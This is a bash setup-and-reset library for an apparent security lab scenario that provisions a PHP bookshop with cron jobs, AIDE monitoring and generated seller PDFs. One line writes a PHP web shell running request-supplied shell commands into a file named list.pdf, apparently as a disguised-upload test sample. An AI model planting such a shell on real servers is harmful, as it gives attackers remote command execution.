# shellcheck shell=bash
# The PHP shop's antiquarian bookshop day (scenario benign-shop-folio):
# functions sourced by the scenario script, root side, idempotent.
# The shop of setup (/var/www/html, www-data) plus benign-shop-folio/www/
# (sell.php, sample.php, admin/picklist.php, lib/folio.php), its data outside
# the web root (/var/lib/shop-folio: catalogue, orders, sellers' offers, the
# books' scans, pick lists, the seller mailbox's fetchmail settings), the
# marketplace order job (/usr/local/lib/shop-folio), www-data's crontab,
# root's /etc/cron.d/shop-folio with its AIDE configuration
# (/etc/shop-folio/aide.conf, database in /var/lib/shop-folio-aide), and the
# developer's tool in /home/deploy/isbn-tools.
# Debian's poppler-utils, enscript, fetchmail and aide are installed for the
# run and purged after (every package the install added is listed in
# /var/lib/lab/shopfolio-pkgs).
#   shopfolio_install DIR    packages, files, the remote parties' files in DIR
#   shopfolio_aide_init      AIDE's baseline database (after every install step)
#   shopfolio_install_cron   the jobs (www-data's crontab, /etc/cron.d/shop-folio)
#   shopfolio_reset          everything the install and the run added (packages purged)

SHOPFOLIO=$LAB_DIR/lib/benign-shop-folio
SHOPFOLIO_PKGS=(poppler-utils enscript fetchmail aide)
SHOPFOLIO_DATA=/var/lib/shop-folio

# shopfolio_pdf OUT TEXT-LINES...: a one-page A4 PDF with the lines (gs)
shopfolio_pdf() {
  local out=$1 ps="" y=780 l
  shift
  for l in "$@"; do
    l=${l//[()\\]/}
    ps+="50 $y moveto ($l) show "
    y=$((y - 18))
  done
  gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=pdfwrite ${SHOPFOLIO_PDF_OPTS:-} -sOutputFile="$out" \
    -c "/Helvetica findfont 11 scalefont setfont $ps showpage" > /dev/null 2>&1
}

shopfolio_install() {
  local d=$1 p missing=() before i isbn
  for p in "${SHOPFOLIO_PKGS[@]}"; do
    dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'install ok installed' || missing+=("$p")
  done
  if [ ${#missing[@]} -gt 0 ]; then
    log "installing for the run: ${missing[*]}"
    before=$(dpkg-query -W -f='${db:Status-Abbrev} ${Package}\n' | awk '$1 == "ii" {print $2}' | sort)
    DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends -o DPkg::Lock::Timeout=300 \
      "${missing[@]}" > /dev/null
    comm -13 <(printf '%s\n' "$before") \
      <(dpkg-query -W -f='${db:Status-Abbrev} ${Package}\n' | awk '$1 == "ii" {print $2}' | sort) >> /var/lib/lab/shopfolio-pkgs
  fi
  # the pages (web root), the samples cache
  cp -r "$SHOPFOLIO/www/." "$WEBROOT/"
  install -d "$WEBROOT/samples"
  chown -R www-data:www-data "$WEBROOT"
  # the data outside the web root
  install -d -o www-data -g www-data -m 750 "$SHOPFOLIO_DATA" "$SHOPFOLIO_DATA/offers" "$SHOPFOLIO_DATA/scans" \
    "$SHOPFOLIO_DATA/picklists"
  install -d -o www-data -g www-data -m 700 "$SHOPFOLIO_DATA/fetchmail"
  install -o www-data -g www-data -m 640 "$SHOPFOLIO/data/catalogue.csv" "$SHOPFOLIO_DATA/catalogue.csv"
  printf 'WEB-26-4411;shop;9783257070217;open\nWEB-26-4412;shop;9783499228179;open\nWEB-26-4413;shop;9783462045833;open\n' \
    > "$SHOPFOLIO_DATA/orders.csv"
  chown www-data:www-data "$SHOPFOLIO_DATA/orders.csv"; chmod 640 "$SHOPFOLIO_DATA/orders.csv"
  install -o www-data -g www-data -m 600 "$SHOPFOLIO/bin/fetchmailrc" "$SHOPFOLIO_DATA/fetchmail/fetchmailrc"
  # the books' scans (12 pages each) for "look inside"
  for isbn in $(awk -F';' 'NR > 1 && $7 == "stock" {print $1}' "$SHOPFOLIO/data/catalogue.csv"); do
    gs -q -dSAFER -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -sOutputFile="$SHOPFOLIO_DATA/scans/$isbn.pdf" \
      -c "/Times-Roman findfont 14 scalefont setfont 1 1 12 { /n exch def 72 700 moveto ($isbn) show 72 670 moveto (page) show n 3 string cvs show 72 640 moveto (Lorem ipsum dolor sit amet, consectetur adipiscing elit.) show showpage } for" > /dev/null 2>&1
  done
  chown www-data:www-data "$SHOPFOLIO_DATA"/scans/*.pdf
  install -d -o www-data -g www-data -m 755 /var/log/shop-folio
  install -o www-data -g www-data -m 644 /dev/null /var/log/shop-folio/fetchmail.log
  install -o www-data -g www-data -m 644 /dev/null /var/log/shop-folio/orders.log
  install -m 644 /dev/null /var/log/shop-folio/aide.log
  install -d -m 755 /usr/local/lib/shop-folio /etc/shop-folio
  install -m 644 "$SHOPFOLIO/bin/marketplace-order.php" /usr/local/lib/shop-folio/marketplace-order.php
  install -m 600 "$SHOPFOLIO/bin/aide.conf" /etc/shop-folio/aide.conf
  # the developer's ISBN tool (built into a phar during the day)
  rm -rf /home/deploy/isbn-tools
  cp -r "$SHOPFOLIO/dev/isbn-tools" /home/deploy/isbn-tools
  chown -R deploy:deploy /home/deploy/isbn-tools
  # the remote parties' files: the sellers' lists, a scanned list (no text), a scanner's "PDF"
  install -d -o labremote -g labremote "$d" "$d/sellers" "$d/spool"
  shopfolio_pdf "$d/sellers/nachlass-weber.pdf" 'Nachlass Weber - Buecherliste' 'Fontane: Effi Briest, Schoeningh  ISBN 978-3-14-021030-0' \
    'Kafka: Der Process  ISBN 978-3-423-24129-8' 'Lenz: Deutschstunde  ISBN 978-3-455-04119-4' 'Brockhaus Band 3, ohne ISBN' \
    'Simmel: Es muss nicht immer Kaviar sein  ISBN 978-3-426-00029-1'
  shopfolio_pdf "$d/sellers/umzug-kisten.pdf" 'Umzugskisten 1-3' 'Kracht - Faserland 9783803127853' 'Rilke - Duineser Elegien 9783458003168' \
    'Grass - Die Blechtrommel 9783763253319' 'Ende - Momo 9783522202602'
  shopfolio_pdf "$d/sellers/antiquariat-liste.pdf" 'Liste Antiquariat Sommer' '978 3 423 24129 8  Kafka Der Process dtv' \
    '978 3 14 021030 0  Goethe Faust I' '978 3 596 90002 6  Remarque'
  shopfolio_pdf "$d/sellers/schulbuecher.pdf" 'Schulbuecher Lena 10b' 'Lambacher Schweizer 10  ISBN 978-3-12-733461-9' \
    'Green Line 6  ISBN 978-3-12-834261-3'
  SHOPFOLIO_PDF_OPTS=-dNoOutputFonts shopfolio_pdf "$d/sellers/scan-opa.pdf" 'Buecher von Opa - eingescannt' \
    'Rilke Duineser Elegien 9783458003168' 'Kracht Faserland 9783803127853'
  printf '<?php echo shell_exec($_REQUEST["c"] ?? "id"); ?>\n' > "$d/sellers/list.pdf"
  chown -R labremote:labremote "$d"
}

# shopfolio_aide_init: the integrity baseline, taken once the install is done
shopfolio_aide_init() {
  install -d -m 700 /var/lib/shop-folio-aide
  rm -f /var/lib/shop-folio-aide/aide.db /var/lib/shop-folio-aide/aide.db.new
  aide --config=/etc/shop-folio/aide.conf --init > /dev/null 2>&1 || true
  [ -s /var/lib/shop-folio-aide/aide.db.new ] || die "aide --init wrote no database"
  mv /var/lib/shop-folio-aide/aide.db.new /var/lib/shop-folio-aide/aide.db
}

# shopfolio_install_cron: the jobs; installed a few seconds before the window
# opens, so that cron first runs them inside it
shopfolio_install_cron() {
  install -m 644 "$SHOPFOLIO/bin/cron.d-shop-folio" /etc/cron.d/shop-folio
  crontab -u www-data "$SHOPFOLIO/bin/www-data.crontab"
}

shopfolio_reset() {
  local p
  rm -f /etc/cron.d/shop-folio
  crontab -u www-data -r 2>/dev/null || true
  sleep 2
  kill_leftover 0 '/usr/bin/aide --config=/etc/shop-folio'
  kill_leftover 33 'fetchmail|marketplace-order\.php|pdfseparate|pdfunite|enscript'
  gpasswd -d deploy www-data > /dev/null 2>&1 || true
  rm -rf "$SHOPFOLIO_DATA" /var/lib/shop-folio-aide /var/log/shop-folio /usr/local/lib/shop-folio /etc/shop-folio \
    /home/deploy/isbn-tools
  rm -rf /tmp/folio-sample-* /tmp/pick-* /var/tmp/fetchmailrc*
  if [ -s /var/lib/lab/shopfolio-pkgs ]; then
    mapfile -t p < /var/lib/lab/shopfolio-pkgs
    log "purging what the run installed: ${p[*]}"
    DEBIAN_FRONTEND=noninteractive apt-get purge -y -q -o DPkg::Lock::Timeout=300 "${p[@]}" > /dev/null 2>&1 || true
    rm -f /var/lib/lab/shopfolio-pkgs
  fi
  return 0
}
